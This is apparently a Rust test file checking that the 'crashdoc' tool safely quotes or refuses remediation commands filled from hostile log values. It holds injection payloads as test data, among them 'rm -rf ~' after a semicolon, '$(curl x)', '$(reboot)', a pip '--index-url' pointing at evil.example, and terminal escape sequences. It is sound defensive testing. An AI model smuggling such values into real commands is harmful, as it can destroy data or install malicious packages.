//! Remediation commands filled from hostile log values are safe to paste: every printed
//! command is either absent (with a `note` saying the value was refused) or quoted so
//! that the shell sees each value as one literal word; and terminal escapes read from a
//! log never reach the terminal raw.
//!
//! Every log in this file is CONSTRUCTED TEST INPUT, written to exercise the quoting of
//! values captured from a log. None of them is a real log.

use std::path::{Path, PathBuf};

use serde_json::Value;
use tempfile::TempDir;

/// The test signature. Its capture regexes are deliberately permissive (`.+`, `[^)]+`)
/// so that hostile values do get captured and reach the templates.
const SIGNATURE: &str = r#"# yaml-language-server: $schema=../schema.json
id: cubin-mismatch-test
title: flashinfer-cubin and flashinfer-python versions differ (test signature)
category: version-mismatch
severity: fatal
match:
  all:
    - exception: RuntimeError
    - message: 'flashinfer-cubin version \((?P<cubin>[^)]+)\) does not match flashinfer version \((?P<python>.+)\)'
explain: A constructed signature for the quoting tests.
remediation:
  - description: Install the matching flashinfer-cubin
    command: 'pip install "flashinfer-cubin=={{python}}"'
  - description: Install that version
    command: 'pip install {{python}}'
  - description: Restart the service
    command: 'systemctl restart {{unit}}'
"#;

/// The three templates above, as the words the shell must see once a value is filled.
fn expected_words(step: usize, python: &str, unit: &str) -> Vec<String> {
    let w = |v: &[&str]| v.iter().map(|s| s.to_string()).collect::<Vec<_>>();
    match step {
        0 => w(&["pip", "install", &format!("flashinfer-cubin=={python}")]),
        1 => w(&["pip", "install", python]),
        2 => w(&["systemctl", "restart", unit]),
        _ => panic!("the test signature has three steps"),
    }
}

struct Fixture {
    lib: TempDir,
    logs: TempDir,
}

impl Fixture {
    fn new() -> Fixture {
        let lib = TempDir::new().expect("temp dir");
        std::fs::write(lib.path().join("cubin-mismatch-test.yaml"), SIGNATURE).expect("signature");
        Fixture {
            lib,
            logs: TempDir::new().expect("temp dir"),
        }
    }

    fn log(&self, name: &str, text: &str) -> PathBuf {
        let p = self.logs.path().join(name);
        std::fs::write(&p, text).expect("log");
        p
    }

    fn run(&self, format: &str, log: &Path) -> std::process::Output {
        crate::util::crashdoc()
            .args([
                "diagnose",
                "--no-builtin",
                "--color",
                "never",
                "--format",
                format,
            ])
            .arg("--signatures")
            .arg(self.lib.path())
            .arg(log)
            .output()
            .expect("run crashdoc")
    }

    /// The JSON report's cause for the test signature.
    fn cause(&self, log: &Path) -> Value {
        let out = self.run("json", log);
        assert_eq!(
            out.status.code(),
            Some(0),
            "a cause must be found: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let v: Value = serde_json::from_slice(&out.stdout).expect("JSON report");
        let c = v["causes"][0].clone();
        assert_eq!(c["signature"], "cubin-mismatch-test", "{v:#}");
        c
    }
}

/// A syslog-style journal (constructed): systemd starts `vllm-test.service`, the process
/// prints the mismatch with `python` as the second version, and the unit fails.
fn syslog(python: &str) -> String {
    format!(
        "Feb 20 23:22:14 gpu-host systemd[1]: Started vllm-test.service - constructed test unit.\n\
         Feb 20 23:22:20 gpu-host vllm[4242]: RuntimeError: flashinfer-cubin version (0.6.3) does not match flashinfer version ({python})\n\
         Feb 20 23:22:21 gpu-host systemd[1]: vllm-test.service: Main process exited, code=exited, status=1/FAILURE\n"
    )
}

/// Splits a command as a POSIX shell would, accepting only what is literal: single
/// quotes, double quotes (where `$` and `` ` `` must be escaped) and backslash escapes.
/// Any unquoted character that the shell would interpret (`;`, `$`, `` ` ``, `|`, `&`,
/// `(`, `~`, globs…) is an error, and so is a control character anywhere.
fn shell_words(cmd: &str) -> Result<Vec<String>, String> {
    if let Some(c) = cmd.chars().find(|c| c.is_control()) {
        return Err(format!("control character {c:?} in the command"));
    }
    let mut words = Vec::new();
    let mut cur = String::new();
    let mut in_word = false;
    let mut chars = cmd.chars();
    while let Some(c) = chars.next() {
        match c {
            ' ' => {
                if in_word {
                    words.push(std::mem::take(&mut cur));
                    in_word = false;
                }
            }
            '\'' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('\'') => break,
                        Some(ch) => cur.push(ch),
                        None => return Err("unterminated single quote".into()),
                    }
                }
            }
            '"' => {
                in_word = true;
                loop {
                    match chars.next() {
                        Some('"') => break,
                        Some('\\') => match chars.next() {
                            Some(n @ ('$' | '`' | '"' | '\\')) => cur.push(n),
                            Some(n) => {
                                cur.push('\\');
                                cur.push(n);
                            }
                            None => return Err("trailing backslash".into()),
                        },
                        Some(ch @ ('$' | '`')) => {
                            return Err(format!("unescaped `{ch}` inside double quotes"))
                        }
                        Some(ch) => cur.push(ch),
                        None => return Err("unterminated double quote".into()),
                    }
                }
            }
            '\\' => {
                in_word = true;
                match chars.next() {
                    Some(n) => cur.push(n),
                    None => return Err("trailing backslash".into()),
                }
            }
            c if c.is_ascii_alphanumeric() || "._+:/=@%,^-".contains(c) => {
                in_word = true;
                cur.push(c);
            }
            c => return Err(format!("unquoted shell metacharacter `{c}`")),
        }
    }
    if in_word {
        words.push(cur);
    }
    Ok(words)
}

/// Checks every step of a cause: a printed command must split into exactly the words of
/// its template with the values filled in; an absent one must say why in its `note`.
/// Returns the printed commands (None for absent ones).
fn check_steps(c: &Value, python: &str, unit: &str) -> Vec<Option<String>> {
    let steps = c["remediation"].as_array().expect("remediation steps");
    assert_eq!(steps.len(), 3, "{c:#}");
    let mut out = Vec::new();
    for (i, s) in steps.iter().enumerate() {
        match s["command"].as_str() {
            Some(cmd) => {
                let words = shell_words(cmd)
                    .unwrap_or_else(|e| panic!("step {i}: `{cmd}` is not safely quoted: {e}"));
                assert_eq!(
                    words,
                    expected_words(i, python, unit),
                    "step {i}: `{cmd}` does not pass the value as one literal word"
                );
                assert!(s.get("note").is_none(), "step {i}: {s}");
                out.push(Some(cmd.to_string()));
            }
            None => {
                let note = s["note"]
                    .as_str()
                    .unwrap_or_else(|| panic!("step {i}: a command left out must say why: {s}"));
                assert!(note.contains("refused"), "step {i}: {note}");
                assert!(s["template"].is_string(), "step {i}: {s}");
                out.push(None);
            }
        }
    }
    out
}

/// Runs the syslog journal with this hostile `python` value and checks every step.
fn hostile_python(value: &str) -> Vec<Option<String>> {
    let f = Fixture::new();
    let log = f.log("constructed.log", &syslog(value));
    let c = f.cause(&log);
    assert_eq!(
        c["captures"]["python"].as_str(),
        Some(value),
        "the hostile value must be captured as is: {c:#}"
    );
    let cmds = check_steps(&c, value, "vllm-test");
    assert_eq!(
        cmds[2].as_deref(),
        Some("systemctl restart vllm-test"),
        "the unit is not affected by the hostile capture"
    );
    cmds
}

#[test]
fn semicolon_command_is_quoted() {
    let cmds = hostile_python("0.6.4; rm -rf ~");
    assert_eq!(
        cmds[0].as_deref(),
        Some(r#"pip install "flashinfer-cubin==0.6.4; rm -rf ~""#)
    );
    assert_eq!(cmds[1].as_deref(), Some("pip install '0.6.4; rm -rf ~'"));
}

#[test]
fn command_substitution_is_quoted() {
    let cmds = hostile_python("$(curl x)");
    assert_eq!(
        cmds[0].as_deref(),
        Some(r#"pip install "flashinfer-cubin==\$(curl x)""#)
    );
    assert_eq!(cmds[1].as_deref(), Some("pip install '$(curl x)'"));
}

#[test]
fn backticks_are_quoted() {
    let cmds = hostile_python("0.6.4`id`");
    assert_eq!(
        cmds[0].as_deref(),
        Some(r#"pip install "flashinfer-cubin==0.6.4"'`'"id"'`'"""#)
    );
    assert_eq!(cmds[1].as_deref(), Some("pip install '0.6.4`id`'"));
}

#[test]
fn quotes_and_backslashes_are_quoted() {
    let cmds = hostile_python(r#"0.6.4" 'x' \"; id"#);
    assert!(cmds[0].is_some() && cmds[1].is_some(), "{cmds:?}");
}

#[test]
fn option_injection_is_refused() {
    // a value starting with `-` could become an option of pip: both pip steps are refused
    let cmds = hostile_python("--index-url=http://evil.example/simple");
    assert_eq!(cmds[0], None, "{cmds:?}");
    assert_eq!(cmds[1], None, "{cmds:?}");
}

#[test]
fn ansi_escapes_in_a_plain_log_never_reach_a_command_raw() {
    // ingest strips ANSI sequences from plain text, so the value reaches the templates
    // without them; whatever is captured, every step must be quoted or refused
    let f = Fixture::new();
    let log = f.log(
        "constructed.log",
        &syslog("0.6.4\u{1b}[2J\u{1b}]0;pwned\u{7}"),
    );
    let c = f.cause(&log);
    let python = c["captures"]["python"]
        .as_str()
        .expect("capture")
        .to_string();
    assert!(!python.contains('\u{1b}'), "{python:?}");
    check_steps(&c, &python, "vllm-test");
}

#[test]
fn other_control_characters_are_refused() {
    // BEL and backspace are not ANSI sequences: they survive ingest and must be refused
    let f = Fixture::new();
    let log = f.log("constructed.log", &syslog("0.6.4\u{7}\u{8}\u{8}"));
    let c = f.cause(&log);
    let python = c["captures"]["python"]
        .as_str()
        .expect("capture")
        .to_string();
    let cmds = check_steps(&c, &python, "vllm-test");
    if python.chars().any(char::is_control) {
        assert_eq!(cmds[0], None, "{cmds:?}");
        assert_eq!(cmds[1], None, "{cmds:?}");
    }
}

/// A `journalctl -o json` line (constructed): the message and the unit are JSON strings,
/// so they can carry any character, escapes included.
fn journal_json(unit: &str, python: &str) -> String {
    let message = format!(
        "RuntimeError: flashinfer-cubin version (0.6.3) does not match flashinfer version ({python})"
    );
    serde_json::json!({
        "__REALTIME_TIMESTAMP": "1708471896000000",
        "_PID": "4242",
        "SYSLOG_IDENTIFIER": "vllm",
        "_SYSTEMD_UNIT": unit,
        "PRIORITY": "3",
        "MESSAGE": message,
    })
    .to_string()
        + "\n"
}

#[test]
fn hostile_unit_names_are_quoted_or_refused() {
    let f = Fixture::new();
    for (unit, shown) in [
        ("$(reboot).service", None),
        ("--now.service", None),
        ("x;id.service", None),
        ("vllm`id`.service", None),
        ("vllm\u{1b}[2J.service", None),
        // systemd's own escaping (`\x2d` for `-`) is legitimate and must be quoted
        (
            r"vllm\x2dtest.service",
            Some(r"systemctl restart 'vllm\x2dtest'"),
        ),
        ("vllm-test.service", Some("systemctl restart vllm-test")),
    ] {
        let log = f.log("constructed.json", &journal_json(unit, "0.6.4"));
        let c = f.cause(&log);
        let u = unit.strip_suffix(".service").unwrap_or(unit);
        let cmds = check_steps(&c, "0.6.4", u);
        assert_eq!(cmds[2].as_deref(), shown, "unit {unit:?}");
    }
}

#[test]
fn text_output_never_holds_a_raw_escape_from_the_log() {
    let f = Fixture::new();
    let esc = "\u{1b}[2J\u{1b}[31m";
    // in the message (a JSON journal keeps escapes: they are not stripped there), in the
    // unit, in the captured value; and a plain log with escapes everywhere
    let json = journal_json(&format!("vllm{esc}.service"), &format!("0.6.4{esc}"))
        + &journal_json("vllm.service", &format!("0.6.4 {esc} again"));
    let plain = format!(
        "Feb 20 23:22:14 gpu-host systemd[1]: Started vllm{esc}.service - {esc}\n\
         Feb 20 23:22:20 gpu-host vllm[4242]: RuntimeError: flashinfer-cubin version (0.6.3{esc}) does not match flashinfer version (0.6.4{esc})\n"
    );
    for (name, text) in [("constructed.json", json), ("constructed.log", plain)] {
        let log = f.log(name, &text);
        for format in ["text", "markdown", "json"] {
            let out = f.run(format, &log);
            assert_eq!(out.status.code(), Some(0), "{name} {format}: {out:?}");
            assert!(
                !out.stdout.contains(&0x1b),
                "{name} --format {format} printed a raw ESC:\n{}",
                String::from_utf8_lossy(&out.stdout)
            );
            assert!(!out.stderr.contains(&0x1b), "{name} {format}: {out:?}");
            if name.ends_with(".json") && format == "text" {
                // the escapes did reach the report, and are shown escaped
                let text = String::from_utf8_lossy(&out.stdout);
                assert!(text.contains(r"python=0.6.4\u{1b}[2J"), "{text}");
            }
        }
    }
}

#[test]
fn history_expansion_in_double_quotes() {
    // `pip install "flashinfer-cubin==0.6.4!!"` pasted into an interactive bash or zsh
    // expands `!!` to the previous command line; only single quotes stop it
    let f = Fixture::new();
    let log = f.log("constructed.log", &syslog("0.6.4!!"));
    let c = f.cause(&log);
    let cmd = c["remediation"][0]["command"].as_str().map(str::to_string);
    if let Some(cmd) = cmd {
        let inside_double = cmd
            .split('"')
            .enumerate()
            .filter(|(i, _)| i % 2 == 1)
            .any(|(_, s)| s.contains('!'));
        assert!(!inside_double, "`!` inside double quotes: {cmd}");
    }
}
